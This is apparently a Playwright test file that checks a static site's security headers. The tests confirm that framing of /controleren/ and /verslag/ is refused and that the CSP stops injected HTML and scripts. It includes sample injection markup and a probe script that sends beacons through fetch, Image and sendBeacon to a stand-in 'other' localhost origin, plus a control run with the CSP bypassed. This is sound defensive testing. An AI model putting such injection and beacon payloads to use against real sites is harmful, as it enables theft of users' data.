/**
 * The published site as a host serves it (dist/ with the headers of dist/_headers, through
 * a tiny Node server), attacked from another origin:
 * - another site may not show /controleren/ or /verslag/ in a frame (a framed check page
 *   could be overlaid with a fake ✓);
 * - HTML injected into a real page (a `<base>`, images, a form, a frame, an object, a
 *   stylesheet) and a script sending beacons reach no other server: the CSP blocks each.
 * Each attack is also run where the protection is absent (no headers, or CSP bypassed), and
 * must then succeed: so these tests fail when the protection goes.
 * The attack page is made by the test server from the built page; it is in no build.
 */
import { readFileSync } from 'node:fs';
import { test, expect, type Page } from '@playwright/test';
import { HOST_HEADER_RULES, PERMISSIONS_POLICY } from '../../src/integrations/securityHeaders';
import { startStaticServer, type StaticServer } from './support/staticServer';

const SITE_PORT = 4336;
const OTHER_PORT = 4337;
const OTHER = `http://localhost:${OTHER_PORT}`;

test.describe.configure({ mode: 'serial' });

let site: StaticServer;
let other: StaticServer;

/** What an HTML-injection bug in a page could put in it; every address points to the other origin. */
const INJECTED = `
<base href="${OTHER}/">
<img src="${OTHER}/beacon/img-tag" alt="">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="">
<link rel="stylesheet" href="${OTHER}/beacon/stylesheet.css">
<object data="${OTHER}/beacon/object" aria-label="x"></object>
<iframe src="${OTHER}/beacon/iframe" title="x"></iframe>
<a id="probe-link" href="pagina/">relatief</a>
<form id="probe-form" action="${OTHER}/beacon/form" method="post"><input name="geheim" value="1" aria-label="x"><button id="probe-submit">Verstuur</button></form>`;

/** A script (same origin, as a compromised dependency would be) sending the user's data elsewhere. */
const PROBE_SCRIPT = `
window.__violations = [];
addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.effectiveDirective + ' ' + e.blockedURI));
addEventListener('DOMContentLoaded', () => {
  fetch('${OTHER}/beacon/fetch', { mode: 'no-cors' }).catch(() => {});
  new Image().src = '${OTHER}/beacon/image';
  try { navigator.sendBeacon('${OTHER}/beacon/send-beacon', 'x'); } catch {}
});`;

test.beforeAll(async () => {
  const page = readFileSync('dist/controleren/index.html', 'utf8');
  // The attack page: the real /controleren/ page with the probe script and the injected HTML.
  const attacked = page.replace('</head>', '<script src="/csp-probe.js"></script></head>').replace(/<body[^>]*>/, (body) => body + INJECTED);
  if (attacked === page || !attacked.includes('/csp-probe.js')) throw new Error('could not build the attack page from dist/controleren/index.html');
  site = await startStaticServer({
    port: SITE_PORT,
    root: 'dist',
    handle: (path) => {
      if (path === '/csp-probe/') return { type: 'text/html; charset=utf-8', body: attacked };
      // The same page without any header: the meta CSP alone must hold.
      if (path === '/csp-probe-meta/') return { type: 'text/html; charset=utf-8', body: attacked, bare: true };
      if (path === '/csp-probe.js') return { type: 'text/javascript', body: PROBE_SCRIPT };
      return undefined;
    },
  });
  other = await startStaticServer({
    port: OTHER_PORT,
    handle: (path, req) => {
      const target = new URL(req.url ?? '/', OTHER).searchParams.get('src') ?? '';
      if (path === '/frame.html') return { type: 'text/html; charset=utf-8', body: `<!doctype html><title>Andere site</title><h1>Andere site</h1><iframe src="${target.replace(/"/g, '')}" title="ingebed" width="800" height="600"></iframe>` };
      return undefined;
    },
  });
});

test.afterAll(async () => {
  await site?.close();
  await other?.close();
});

test('the host sends the security headers from dist/_headers', async ({ request }) => {
  const page = await request.get(`${site.origin}/controleren/`);
  expect(page.status()).toBe(200);
  for (const [name, value] of HOST_HEADER_RULES[0]!.headers) expect(page.headers()[name.toLowerCase()], name).toBe(value);
  expect(page.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
  const script = readFileSync('dist/index.html', 'utf8').match(/src="(\/_astro\/[^"]+\.js)"/)?.[1];
  expect(script).toBeTruthy();
  expect((await request.get(site.origin + script)).headers()['cache-control']).toContain('immutable');
  expect((await request.get(`${site.origin}/sw.js`)).headers()['cache-control']).toBe('no-cache');
});

/** Another site's page that shows `target` in a frame: what the frame loaded, and its main heading. */
async function framed(page: Page, target: string): Promise<{ url: string; heading: string | null }> {
  await page.goto(`${OTHER}/frame.html?src=${encodeURIComponent(target)}`);
  await page.waitForLoadState('load');
  const frame = page.frames().find((f) => f !== page.mainFrame());
  if (!frame) throw new Error('no frame');
  const heading = frame.url().startsWith('chrome-error:') ? null : await frame.locator('h1').first().textContent();
  return { url: frame.url(), heading: heading?.trim() ?? null };
}

for (const path of ['/controleren/', '/verslag/']) {
  test(`another site cannot show ${path} in a frame`, async ({ page, baseURL }) => {
    const heading = readFileSync(`dist${path}index.html`, 'utf8').match(/<h1[^>]*>([^<]+)</)?.[1]?.trim();
    expect(heading).toBeTruthy();
    // Without the headers (Astro's preview server) the frame shows the page: the attack works there…
    const open = new URL(path, baseURL).href;
    expect(await framed(page, open), 'the page shows in a frame when no headers are sent').toEqual({ url: open, heading });
    // …and with the headers of dist/_headers the browser shows its error page instead.
    const refused = await framed(page, `${site.origin}${path}`);
    expect(refused.url).toMatch(/^chrome-error:/);
    expect(refused.heading).not.toBe(heading);
  });
}

for (const [path, how] of [['/csp-probe/', 'with the host headers'], ['/csp-probe-meta/', 'with the meta CSP alone']] as const) {
  test(`injected HTML and a script sending beacons reach no other origin (${how})`, async ({ page }) => {
    const before = other.requests.length;
    const messages: string[] = [];
    page.on('console', (msg) => messages.push(msg.text()));
    await page.goto(`${site.origin}${path}`);
    await page.waitForLoadState('load');
    const violations = async () => (await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)).join('\n');
    await expect.poll(violations).toMatch(/connect-src.*send-beacon/);
    const seen = await violations();
    for (const directive of ['base-uri', 'img-src', 'style-src-elem', 'object-src', 'frame-src', 'connect-src']) expect(seen, directive).toContain(directive);
    expect(seen, 'data: images are not allowed either').toMatch(/img-src data/);
    // The <base> is ignored: relative addresses stay on the site.
    expect(await page.evaluate(() => document.baseURI)).toBe(`${site.origin}${path}`);
    expect(await page.locator('#probe-link').evaluate((a: HTMLAnchorElement) => a.href)).toBe(`${site.origin}${path}pagina/`);
    // The page itself still works: its island hydrated from the site's own origin.
    await page.waitForFunction(() => document.querySelectorAll('astro-island[ssr]').length === 0);
    // A form with a foreign action does not send.
    await page.locator('#probe-submit').click({ noWaitAfter: true });
    await expect.poll(() => messages.join('\n')).toMatch(/form-action/);
    await page.waitForTimeout(500);
    expect(other.requests.slice(before)).toEqual([]);
  });
}

test.describe('without the CSP', () => {
  test.use({ bypassCSP: true });
  test('the same injected HTML and beacons do reach the other origin (control)', async ({ page }) => {
    const before = other.requests.length;
    await page.goto(`${site.origin}/csp-probe/`);
    await page.waitForLoadState('load');
    await expect.poll(() => other.requests.slice(before).filter((r) => r.startsWith('/beacon/')).length).toBeGreaterThanOrEqual(4);
    const leaked = other.requests.slice(before);
    for (const beacon of ['/beacon/img-tag', '/beacon/image', '/beacon/fetch', '/beacon/stylesheet.css']) expect(leaked, beacon).toContain(beacon);
    expect(await page.evaluate(() => document.baseURI)).toBe(`${OTHER}/`);
    await page.locator('#probe-submit').click();
    await expect.poll(() => other.requests.slice(before)).toContain('/beacon/form');
  });
});

test('browser features the site does not use are switched off, without warnings', async ({ page, baseURL }) => {
  const warnings: string[] = [];
  page.on('console', (msg) => {
    if (/Permissions-Policy|Unrecognized feature|Feature Policy/i.test(msg.text())) warnings.push(msg.text());
  });
  const features = PERMISSIONS_POLICY.split(', ').map((f) => f.replace('=()', ''));
  const allowed = () =>
    page.evaluate((names) => {
      const policy = (document as Document & { featurePolicy?: { allowsFeature(f: string): boolean } }).featurePolicy;
      if (!policy) throw new Error('no document.featurePolicy');
      return names.filter((n) => policy.allowsFeature(n));
    }, features);
  await page.goto(new URL('/verslag/', baseURL).href);
  expect((await allowed()).length, 'without the header, the features are allowed').toBeGreaterThan(5);
  await page.goto(`${site.origin}/verslag/`);
  expect(await allowed()).toEqual([]);
  expect(warnings).toEqual([]);
});
